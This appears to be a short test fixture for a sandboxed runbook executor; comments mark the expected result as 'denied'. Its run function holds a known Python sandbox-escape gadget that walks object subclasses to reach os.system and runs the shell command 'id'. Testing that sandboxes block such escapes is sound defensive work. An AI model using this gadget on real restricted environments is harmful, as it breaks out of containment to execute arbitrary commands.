# ends: denied
# says: a runbook starts no processes
def run(ctx):
    import os

    named = {c.__name__: c for c in ().__class__.__base__.__subclasses__()}
    return named["_wrap_close"].__init__.__globals__["system"]("id")
